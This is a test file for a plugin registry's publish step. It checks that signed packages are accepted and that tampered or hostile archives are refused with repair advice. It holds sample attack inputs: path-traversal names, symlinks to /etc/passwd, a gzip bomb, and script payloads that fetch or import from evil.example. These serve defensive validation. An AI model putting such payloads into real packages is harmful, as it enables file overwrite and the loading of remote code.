import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { createGzip, gzipSync } from 'node:zlib';
import { pack } from 'tar-stream';
import type { PluginManifest } from '@kituo/sdk/contracts';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { loadRegistry } from '../index.ts';
import { verifyPackage } from '../verify-package.ts';
import { PublishRefusal, publishPackage, type RefusalReason } from './index.ts';
import {
  type Change,
  archiveOf,
  ENTRY,
  keyPair,
  named,
  PAGE,
  rules,
  streamOf,
} from '../../../../../testing/test-archive.ts';

let packages = '';
beforeEach(async () => {
  packages = await mkdtemp(join(tmpdir(), 'kituo-publish-'));
});
afterEach(() => rm(packages, { recursive: true, force: true }));

const publish = async (archive: Uint8Array) => await publishPackage(streamOf(archive), packages, rules);
const refusalOf = async (work: Promise<unknown>): Promise<PublishRefusal> => {
  const fault = await work.then(
    () => null,
    (reason: unknown) => reason,
  );
  expect(fault).toBeInstanceOf(PublishRefusal);
  if (!(fault instanceof PublishRefusal)) throw new Error('it was taken in');
  return fault;
};

test('a right package is taken in whole, once, and can be delivered', async () => {
  const archive = await archiveOf();
  expect(await publish(archive)).toEqual({
    name: 'cash',
    version: '1.0.0',
    publisher: 'nairobi-loans',
    isFirstParty: false,
    isNew: true,
  });
  expect((await verifyPackage(packages, 'cash', '1.0.0')).manifest.files).toHaveLength(4);
  expect(await publish(archive)).toMatchObject({ isNew: false });
  expect(await readdir(join(packages, 'cash'))).toEqual(['1.0.0']);
});

test('two at once leave one whole package', async () => {
  const archive = await archiveOf();
  const results = await Promise.all([publish(archive), publish(archive), publish(archive)]);
  expect(results.map(({ name }) => name)).toEqual(['cash', 'cash', 'cash']);
  expect(await readdir(join(packages, 'cash'))).toEqual(['1.0.0']);
  await verifyPackage(packages, 'cash', '1.0.0');
});

test('a published version never changes, and its name stays its publisher’s', async () => {
  await publish(await archiveOf());
  const changed = await refusalOf(publish(await archiveOf({ texts: '{"title":"More"}' })));
  expect([changed.reason, changed.mend]).toEqual(['exists', expect.stringMatching(/raise the version/)]);
  const pair = keyPair();
  const publishers = new Map(rules.publishers).set('others', {
    name: 'others',
    firstParty: false,
    keys: [{ id: 'now', publicKey: pair.publicKey }],
  });
  const theirs = await archiveOf({
    description: { publisher: 'others', version: '2.0.0' },
    signer: { publisher: 'others', privateKey: pair.privateKey },
  });
  const taken = await refusalOf(publishPackage(streamOf(theirs), packages, { ...rules, publishers }));
  expect(taken.message).toBe('the name cash belongs to nairobi-loans');
});

test('of two publishers who want one name at once, one gets it', async () => {
  const pair = keyPair();
  const publishers = new Map(rules.publishers).set('others', {
    name: 'others',
    firstParty: false,
    keys: [{ id: 'now', publicKey: pair.publicKey }],
  });
  const ours = await archiveOf();
  const theirs = await archiveOf({
    description: { publisher: 'others', version: '2.0.0' },
    signer: { publisher: 'others', privateKey: pair.privateKey },
  });
  const results = await Promise.allSettled(
    [ours, theirs].map((archive) => publishPackage(streamOf(archive), packages, { ...rules, publishers })),
  );
  const refused = results.flatMap((one) => (one.status === 'rejected' ? [one.reason] : []));
  expect(refused.map(({ message }) => message)).toEqual([
    expect.stringMatching(/^the name cash belongs to (others|nairobi-loans)$/),
  ]);
  expect(await readdir(join(packages, 'cash'))).toHaveLength(1);
  expect((await readdir(packages)).sort()).toEqual(['cash']);
});

test('half an upload, or none of an archive, leaves nothing', async () => {
  const archive = await archiveOf();
  const halves = [archive.subarray(0, archive.length / 2), Buffer.from('not a tar'), Buffer.alloc(0)];
  for (const half of halves) {
    expect((await refusalOf(publish(half))).reason).toMatch(/archive|manifest/);
  }
  expect(await readdir(packages)).toEqual([]);
});

/** Zeros without end, compressed: a bomb, and an upload that never stops. */
async function* endless(): AsyncGenerator<Buffer> {
  for (;;) yield Buffer.alloc(1_000_000);
}

test('an archive without end and one that swells are refused while they are read', async () => {
  const noise = Buffer.from(Array.from({ length: 1_000_000 }, (_, i) => (i * 7919 + (i >> 3)) & 255));
  async function* noisy(): AsyncGenerator<Buffer> {
    yield gzipSync(noise).subarray(0, 10);
    for (;;) yield noise;
  }
  const long = await refusalOf(publishPackage(Readable.from(noisy()), packages, rules));
  expect(long.reason).toMatch(/size|archive/);
  const swelling = pack();
  const entry = swelling.entry({ name: 'zeros.bin', size: 3_000_000_000 });
  const feeding = Readable.from(endless());
  entry.on('error', () => feeding.destroy());
  feeding.on('error', () => undefined).pipe(entry);
  const bomb = swelling.on('error', () => undefined).pipe(createGzip());
  const refused = await refusalOf(publishPackage(bomb, packages, rules));
  feeding.destroy();
  swelling.destroy();
  expect([refused.reason, refused.message]).toEqual(['size', 'zeros.bin has more than 5 MB']);
});

const only = (name: RegExp, to: (content: Buffer) => Buffer) => (files: Map<string, Buffer>) => {
  for (const [file, content] of files) if (name.test(file)) files.set(file, to(content));
};
const manifest = (edit: (made: Record<string, unknown>) => void): Change => ({
  manifest: (made) => {
    const copy: Record<string, unknown> = structuredClone(made);
    edit(copy);
    return copy;
  },
});
const script = (body: string): Change => ({
  page: `System.register(["react"],function(e,n){"use strict";return{setters:[function(){}],execute:function(){${body}}}});`,
});
const strangerKey = keyPair().privateKey;
const nested = (depth: number): string => (depth === 0 ? '"x"' : `{"a":${nested(depth - 1)}}`);

const hostile: [what: string, change: Change, reason: RefusalReason, says: RegExp][] = [
  [
    'a script altered on the way',
    { files: only(/^Cash/, (c) => Buffer.concat([c, Buffer.from(' ')])) },
    'integrity',
    /altered/,
  ],
  ['texts altered on the way', { files: only(/^texts/, () => Buffer.from('{}')) }, 'integrity', /altered/],
  [
    'a manifest altered after signing',
    { files: only(/^manifest/, (c) => Buffer.concat([c, Buffer.from(' ')])) },
    'signature',
    /altered after it was signed/,
  ],
  ['a stranger’s key', { signer: { privateKey: strangerKey } }, 'signature', /not signed with the key/],
  ['no signature', { files: (files) => void files.delete('signature.json') }, 'signature', /not signed/],
  ['an empty signature', { signature: () => ({}) }, 'signature', /another form/],
  ['a signature that is no JSON', { files: only(/^signature/, () => Buffer.from('{')) }, 'signature', /another form/],
  ['a signature with more in it', { signature: (one) => ({ ...one, algorithm: 'none' }) }, 'signature', /another form/],
  ['a signature of nothing', { signature: (one) => ({ ...one, signature: '' }) }, 'signature', /not signed with/],
  [
    'a signature of another length',
    { signature: (one) => ({ ...one, signature: 'AAAA' }) },
    'signature',
    /not signed with/,
  ],
  ['a key that ended', { signer: { keyId: 'old' } }, 'signature', /ended on 2026-01-31/],
  ['an unknown key', { signer: { keyId: 'mine' } }, 'signature', /has no key "mine"/],
  ['an unknown publisher', { signer: { publisher: 'nobody' } }, 'publisher', /nobody knows/],
  [
    'another publisher’s name',
    { signature: (one) => ({ ...one, publisher: 'others' }) },
    'signature',
    /not signed with/,
  ],
  [
    'a publisher that signs for another',
    { description: { publisher: 'kituo' } },
    'publisher',
    /of kituo and was signed by nairobi-loans/,
  ],
  [
    'a path that climbs out',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: '../../evil.js' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'an absolute path',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: '/etc/passwd' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'a folder in a name',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: 'a/b.js' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'a backslash in a name',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: '..\\evil.js' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'a hidden file',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: '.npmrc' } : h) },
    'archive',
    /not a file name/,
  ],
  [
    'a symbolic link',
    {
      headers: (h) => (/^Cash/.test(h.name) ? { ...h, size: 0, type: 'symlink', linkname: '/etc/passwd' } : h),
      page: '',
    },
    'archive',
    /is a symlink/,
  ],
  [
    'a hard link',
    {
      headers: (h) => (/^Cash/.test(h.name) ? { ...h, size: 0, type: 'link', linkname: 'manifest.json' } : h),
      page: '',
    },
    'archive',
    /is a link/,
  ],
  [
    'a device',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, size: 0, type: 'character-device' } : h), page: '' },
    'archive',
    /is a character-device/,
  ],
  [
    'a file twice',
    { headers: (h) => (/^Cash/.test(h.name) ? { ...h, name: 'manifest.json' } : h) },
    'archive',
    /twice/,
  ],
  [
    'a stowaway',
    { files: (files) => void files.set('extra.js', Buffer.from('')) },
    'integrity',
    /extra\.js is not in manifest/,
  ],
  [
    'a missing file',
    {
      files: (files) => {
        for (const name of files.keys()) if (/^Cash/.test(name)) files.delete(name);
      },
    },
    'integrity',
    /is missing/,
  ],
  ['a file of 6 MB', { page: `/*${'x'.repeat(6_000_000)}*/${PAGE}` }, 'size', /more than 5 MB/],
  ['a manifest of 600 KB', manifest((m) => void (m['padding'] = 'x'.repeat(600_000))), 'size', /500 KB/],
  ['a manifest that is no JSON', { manifest: () => '{"format":1' }, 'manifest', /not JSON/],
  [
    'a manifest of deep nesting',
    { manifest: () => `${'['.repeat(50_000)}${']'.repeat(50_000)}` },
    'manifest',
    /manifest\.json/,
  ],
  ['a manifest of another format', manifest((m) => void (m['format'] = 2)), 'manifest', /format/],
  ['a name with a path', { description: { name: '../home' } }, 'manifest', /name/],
  ['a version with a path', { description: { version: '1.0.0/../../x' } }, 'manifest', /version/],
  [
    'a page outside the console',
    { description: { pages: [{ name: 'Cash', path: '/Login', titleKey: 't', module: 'src/a.tsx' }] } },
    'manifest',
    /path/,
  ],
  ['a field nobody knows', { description: { privileged: true } }, 'manifest', /does not know privileged/],
  ['no pages', { description: { pages: [] } }, 'manifest', /pages/],
  ['an entry that is a style', manifest((m) => void (m['entry'] = 3)), 'integrity', /no \.js/],
  ['an index of nothing', manifest((m) => void (m['entry'] = 99)), 'integrity', /no \.js/],
  ['a negative index', manifest((m) => void (m['entry'] = -1)), 'integrity', /no \.js/],
  ['a page that was not built', manifest((m) => void (m['pages'] = [])), 'integrity', /Cash was not built/],
  ['a newer SDK', { description: { sdk: '^9.0.0' } }, 'incompatible', /SDK \^9\.0\.0/],
  ['another React', manifest((m) => void (m['react'] = 18)), 'incompatible', /React 18/],
  ['a script that is no module', { page: 'fetch("https://evil.example")' }, 'script', /not one System\.register/],
  ['a script before the module', { page: `alert(1);${PAGE}` }, 'script', /not one System\.register/],
  ['a script that does not parse', { page: 'System.register([' }, 'script', /is not a script/],
  [
    'an import by address',
    { page: PAGE.replace('"react"', '"https://evil.example/x.js"') },
    'script',
    /imports "https/,
  ],
  ['an import of the host', { page: PAGE.replace('"react"', '"@kituo/host"') }, 'script', /imports "@kituo\/host"/],
  [
    'an import of another plugin',
    { page: PAGE.replace('"react"', '"../../users/0.1.0/plugin.js"') },
    'script',
    /imports "\.\.\//,
  ],
  ['an import that is computed', script('n.import("./"+location.hash)'), 'script', /not written out/],
  ['an import of a file that is not there', script('n.import("./Other.js")'), 'script', /is not in it/],
  ['import() past the loader', script('import("data:text/javascript,1")'), 'script', /past the host/],
  [
    'React’s inside by name',
    script('e.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE'),
    'script',
    /reaches into React/,
  ],
  [
    'React’s inside in quotes',
    script('e["__SECRET_INTERNALS_DO_NOT_USE_OR_YOU_WILL_BE_FIRED"]'),
    'script',
    /reaches into React/,
  ],
  ['React’s inside in a template', script('e[`__SERVER_INTERNALS_x`]'), 'script', /reaches into React/],
  ['React’s inside taken apart', script('const {__CLIENT_INTERNALS_x: inside}=e'), 'script', /reaches into React/],
  ['React’s inside with escapes', script('e.\\u005f_CLIENT_INTERNALS_x'), 'script', /reaches into React/],
  [
    'an API it does not declare',
    script('return {path:"user/getUserList",method:"POST"}'),
    'capability',
    /calls user\//,
  ],
  ['giant texts', { texts: JSON.stringify({ title: 'x'.repeat(500_000) }) }, 'texts', /400 KB/],
  ['one giant text', { texts: JSON.stringify({ title: 'x'.repeat(5_000) }) }, 'texts', /5000 characters/],
  ['texts that are no JSON', { texts: '{' }, 'texts', /not JSON/],
  ['texts that are a list', { texts: '["x"]' }, 'texts', /no text/],
  ['texts that are numbers', { texts: '{"title":7}' }, 'texts', /no text/],
  ['texts nested too deep', { texts: nested(9) }, 'texts', /too deep/],
  [
    'texts of a language that is missing',
    { description: { locales: ['en', 'zh'] } },
    'texts',
    /texts of zh are missing/,
  ],
  ['a budget above company policy', { description: { budgetKb: 4_000 } }, 'budget', /company policy allows 150/],
  ['a page above its budget', { description: { budgetKb: 0.1 } }, 'budget', /Cash costs/],
  [
    'sizes that are not true',
    manifest((m) => {
      const list = m['files'];
      if (Array.isArray(list)) m['files'] = list.map((f: object) => ({ ...f, brotliBytes: 0 }));
    }),
    'budget',
    /manifest\.json says 0/,
  ],
  [
    'an entry that loads a stranger',
    { entry: ENTRY.replace('./PAGE', 'https://evil.example/x.js') },
    'script',
    /imports "https/,
  ],
];

/** What its author is told to do, by reason: what to type, or which file to change. */
const mends: Readonly<Record<RefusalReason, RegExp>> = {
  size: /^(Leave out what pages do not need, or load it from the server|Split the section)/,
  archive: /^(Make it with "kituo-plugin publish"|Pack plain files alone|Upload the whole file)/,
  signature: /^Sign (it anew: kituo-plugin publish --key|with a key that stands in registry\/publis)/,
  publisher: /(your public key into|"publisher" in plugin\.json to the name in) registry\/publishers\//,
  manifest: /^(Build it with "kituo-plugin build"|Mend (".+"|it) in plugin\.json and build it again)/,
  integrity: /^Build it with "kituo-plugin build" and change nothing in it afterwards\.$/,
  incompatible: /^(Move it on with "kituo-plugin upgrade"|Build it with the SDK of this host)/,
  script: /^(Build it with "kituo-plugin build"|The host provides react, @kituo\/sdk, |Use what react)/,
  texts: /locales\/|"locales" in plugin\.json/,
  capability: /^Add "user\/" to "capabilities\.api" in plugin\.json\.$/,
  budget: /"budgetKb" in plugin\.json|^Build it with "kituo-plugin build" and change nothing/,
  exists: /raise the version in plugin\.json/,
};

test('what an author wrote into plugin.json is fixed there, by its name', async () => {
  const refused = async (description: Record<string, unknown>) =>
    (await refusalOf(publish(await archiveOf({ description })))).mend;
  expect(await refused({ version: 'newest' })).toMatch(/^Mend "version" in plugin\.json/);
  expect(await refused({ pages: [{ name: 'Cash' }] })).toMatch(/^Mend "pages\.0\.\w+" in plugin/);
  expect(await refused({ colour: 'red' })).toMatch(/^Mend it in plugin\.json/);
});

test('a key that an operator entered wrongly is told as such', async () => {
  for (const publicKey of ['AAAA', 'not base64 at all', '']) {
    const keys = [{ id: 'now', publicKey }];
    const publishers = new Map([['nairobi-loans', { name: 'nairobi-loans', firstParty: false, keys }]]);
    const archive = streamOf(await archiveOf());
    const refusal = await refusalOf(publishPackage(archive, packages, { ...rules, publishers }));
    expect([refusal.reason, refusal.message]).toEqual([
      'signature',
      'what registry/publishers/ has as the key now of nairobi-loans is no ed25519 key',
    ]);
  }
});

test(`${hostile.length} broken and hostile packages are refused, each in words, and nothing is written`, async () => {
  for (const [what, change, reason, says] of hostile) {
    const refusal = await refusalOf(publish(await archiveOf(change))).catch((fault: unknown) => {
      throw new Error(`${what}: ${String(fault)}`);
    });
    expect([what, refusal.reason, refusal.message]).toEqual([what, reason, expect.stringMatching(says)]);
    expect([what, refusal.mend]).toEqual([what, expect.stringMatching(mends[reason])]);
  }
  const left = await readdir(packages, { recursive: true });
  expect(left.filter((name) => name !== 'cash')).toEqual([]);
  // None of them is in the way of the next.
  expect(await publish(await archiveOf())).toMatchObject({ isNew: true });
});

test('the server takes a contributed package in only with its publisher’s signature', async () => {
  await publish(await archiveOf());
  const publishersDir = join(packages, 'publishers');
  const file = join(packages, 'registry.json');
  await writeFile(file, '{"plugins":{"cash":{"enabled":true,"version":"1.0.0"}}}');
  const place = { file, packagesDir: packages, sdkVersion: '0.1.0', publishersDir };
  await mkdir(publishersDir);
  const cash = async (keys = place) => (await loadRegistry(keys)).plugins[0];
  const leftOut = (why: string) => ({ package: null, leftOut: expect.stringContaining(why) });
  const nobody = leftOut('nobody knows the publisher "nairobi-loans"');
  expect(await cash()).toMatchObject(nobody);
  const known = rules.publishers.get('nairobi-loans');
  await writeFile(join(publishersDir, 'nairobi-loans.json'), JSON.stringify(known));
  expect(await cash()).toMatchObject({ leftOut: null, isIsolated: true });
  // Without the folder of publishers it is not taken for one of the company.
  expect(await cash({ ...place, publishersDir: '' })).toMatchObject(nobody);
  const path = join(packages, 'cash/1.0.0/signature.json');
  const signature = JSON.parse(await readFile(path, 'utf8'));
  const signed = (change: object) => writeFile(path, JSON.stringify({ ...signature, ...change }));
  await signed({ keyId: 'other' });
  expect(await cash()).toMatchObject(leftOut('nairobi-loans has no key "other"'));
  // Altered, which no operator did: the whole file is not taken in.
  await signed({ signature: 'AAAA' });
  await expect(cash()).rejects.toThrow(/cash: it was not signed with the key now/);
  await rm(path);
  await expect(cash()).rejects.toThrow(/cash: it is not signed/);
});

describe('from outside', () => {
  const XHTML = '<svg xmlns="http://www.w3.org/2000/svg"/>';
  const picture = named('logo', 'svg', XHTML);
  const withPicture: Change = {
    manifest: (manifest) => ({ ...manifest, files: [...manifest.files, picture] }),
    files: (files) => files.set(picture.name, Buffer.from(XHTML)),
  };
  const fill = { files: [2], styles: [3], later: [], shared: [] };
  const filled = (changed: object): Change => ({
    description: {
      slots: { fills: [{ slot: 'home.tile', name: 'Tile', titleKey: 'title', module: 'src/tile.tsx', page: 'Cash' }] },
    },
    manifest: (manifest) => ({ ...manifest, fills: [{ name: 'Tile', ...fill, ...changed }] }),
  });
  const openToAll = (manifest: PluginManifest) => ({
    ...manifest,
    description: {
      ...manifest.description,
      pages: manifest.description.pages.map((page) => ({ ...page, always: true })),
    },
  });
  const family = (api: string): Change => ({
    description: { capabilities: { api: [api], clipboard: false, download: false } },
  });
  const version = (text: string): Change => ({ description: { version: text } });

  test.each<[string, Change, RefusalReason]>([
    ['an SVG, which is a document that runs script', withPicture, 'manifest'],
    ['a page for everybody', { manifest: openToAll }, 'manifest'],
    ['an empty API family, which is all of them', family(''), 'manifest'],
    ['a family that is no beginning of a path', family('../'), 'manifest'],
    ['a script of a part that is not in the list', filled({ files: [9] }), 'integrity'],
    ['a script of a part that is a style', filled({ later: [3] }), 'integrity'],
    ['a place that is no number of a place', filled({ styles: [-1] }), 'integrity'],
    ['a part that nobody declared', filled({ name: 'Other' }), 'integrity'],
    ['a version as long as a novel', version(`1.0.0-${'a'.repeat(300)}`), 'manifest'],
    ['a version past what can be counted', version('99999999999999999999.0.0'), 'manifest'],
    ['a version with nothing between its dots', version('1.0.0-a..b'), 'manifest'],
    ['a version with a zero before it', version('01.0.0'), 'manifest'],
  ])('%s is refused', async (_what, change, reason) => {
    expect((await refusalOf(publish(await archiveOf(change)))).reason).toBe(reason);
  });

  test('a part that is right is taken in', async () => {
    expect(await publish(await archiveOf(filled({})))).toMatchObject({ isNew: true });
  });
});
